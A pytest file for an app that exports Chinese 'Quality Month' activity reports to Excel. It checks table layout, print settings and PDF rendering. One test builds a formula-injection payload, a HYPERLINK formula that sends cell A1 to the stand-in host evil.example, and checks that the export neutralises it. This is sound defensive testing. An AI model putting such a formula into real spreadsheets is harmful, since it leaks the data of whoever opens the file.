"""The Excel table, read back with openpyxl."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from qmclient.core.sheetsafe import FORMULA_STARTS, neutralise
from qmclient.export.xlsx_table import HEADERS
from qmclient.services import drafts
from qmclient.services.context import AppContext
from qmclient.services.export import ExportOptions, run


def _table(ctx: AppContext, sid: int, folder: Path, *, draft: bool = False):  # type: ignore[no-untyped-def]
    target = folder / "表.xlsx"
    run(ctx, sid, ExportOptions(xlsx=target, draft=draft))
    return load_workbook(target).active


def test_layout_and_rows(ctx: AppContext, sample_sid: int, tmp_path: Path) -> None:
    ws = _table(ctx, sample_sid, tmp_path)
    assert ws["A1"].value == "2022年“质量月”主要活动情况表"
    assert tuple(c.value for c in ws[2]) == HEADERS
    assert HEADERS == (
        "序号", "单位", "活动名称", "重点领域", "时间", "地点", "参与人数", "活动内容", "成效",
        "联系人及电话",
    )  # fmt: skip
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["H"].width == 48
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 3
    first = rows[0]
    assert first[0] == 1
    assert first[1] == "济南某某精密机械有限公司（历下区）"
    assert first[2] == "2022年“质量月”活动启动仪式"
    assert first[3] == "广泛开展质量主题宣传活动"
    assert first[4] == "2022年9月1日"
    assert first[6] == 260 and isinstance(first[6], int)
    assert first[9] == "张三 0531-82568852"
    assert rows[1][4] == "2022年9月13日—15日"
    assert ws["H3"].alignment.wrap_text
    assert ws.print_title_rows == "$1:$2"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_text_is_neutralised(ctx: AppContext, tmp_path: Path, start: str) -> None:
    sid = drafts.create_draft(ctx)
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"点我")'
    drafts.add_activity(
        ctx, sid, {"focus_area": "publicity", "name": payload, "place": "=1+1", "results": "-5"}
    )
    ws = _table(ctx, sid, tmp_path, draft=True)  # an incomplete report: only as a draft
    name, place, results = ws["C3"], ws["F3"], ws["I3"]
    for cell in (name, place, results):
        assert cell.data_type == "s"
        assert cell.value.startswith("'") or not cell.value.startswith(FORMULA_STARTS)
    # trimmed text loses a leading tab or CR; anything else keeps it behind a quote
    assert name.value in ("'" + payload, payload.strip())
    assert place.value == "'=1+1" and results.value == "'-5"


def test_neutralise_leaves_ordinary_text() -> None:
    assert neutralise("质量月启动仪式") == "质量月启动仪式"
    assert neutralise("QC 小组 = 12") == "QC 小组 = 12"
    assert neutralise("a\x00b") == "ab"
    assert neutralise("\tx") == "'\tx" and neutralise("\r=1") == "'\r=1"


@pytest.mark.linux_tools  # rendered through LibreOffice
def test_rendered_to_pdf_nothing_is_cut(ctx: AppContext, tmp_path: Path) -> None:
    """The table as LibreOffice prints it (A4 landscape, fit to width): every cell's whole
    text is on the page — rows are as high as their wrapped text."""
    import re

    from rendering import pdf_lines, to_pdf
    from sample import build_realistic

    sid = build_realistic(ctx, tmp_path / "src", photo_size=(64, 48))
    long = "开展质量提升专项行动，" * 12 + "成效显著。"
    activity = drafts.load_report(ctx, sid).activities[0]
    drafts.update_activity(ctx, activity.id, {"description": long, "results": long[:80]})
    target = tmp_path / "表.xlsx"
    run(ctx, sid, ExportOptions(xlsx=target))
    ws = load_workbook(target).active
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
    words, _width = pdf_lines(to_pdf(target, tmp_path), words=True)
    # each printed word belongs to the column it lies in: the column edges follow the
    # sheet's widths, placed by the printed centres of the first and last header
    widths = [ws.column_dimensions[chr(ord("A") + i)].width for i in range(len(HEADERS))]
    edges = [sum(widths[:i]) for i in range(len(widths) + 1)]
    mids = [(edges[i] + edges[i + 1]) / 2 for i in range(len(widths))]
    first = next(w for w in words if w.text == HEADERS[0]).centre
    last = next(w for w in words if w.text == HEADERS[-1]).centre
    scale = (last - first) / (mids[-1] - mids[0])
    x_edges = [first + (e - mids[0]) * scale for e in edges]
    title_row = next(w for w in words if w.text == HEADERS[0]).y1
    column: dict[int, list[tuple[int, float, float, str]]] = {}
    for w in words:
        if w.page == 1 and w.y1 <= title_row:
            continue  # the title and the header row
        col = max(i for i in range(len(widths)) if x_edges[i] <= w.centre)
        column.setdefault(col, []).append((w.page, w.y0, w.x0, w.text))
    printed = {c: "".join(t for *_k, t in sorted(ws_)) for c, ws_ in column.items()}
    for row in ws.iter_rows(min_row=3, values_only=True):
        for col, value in enumerate(row):
            if isinstance(value, str):
                assert re.sub(r"\s", "", value) in printed[col], (HEADERS[col], value)
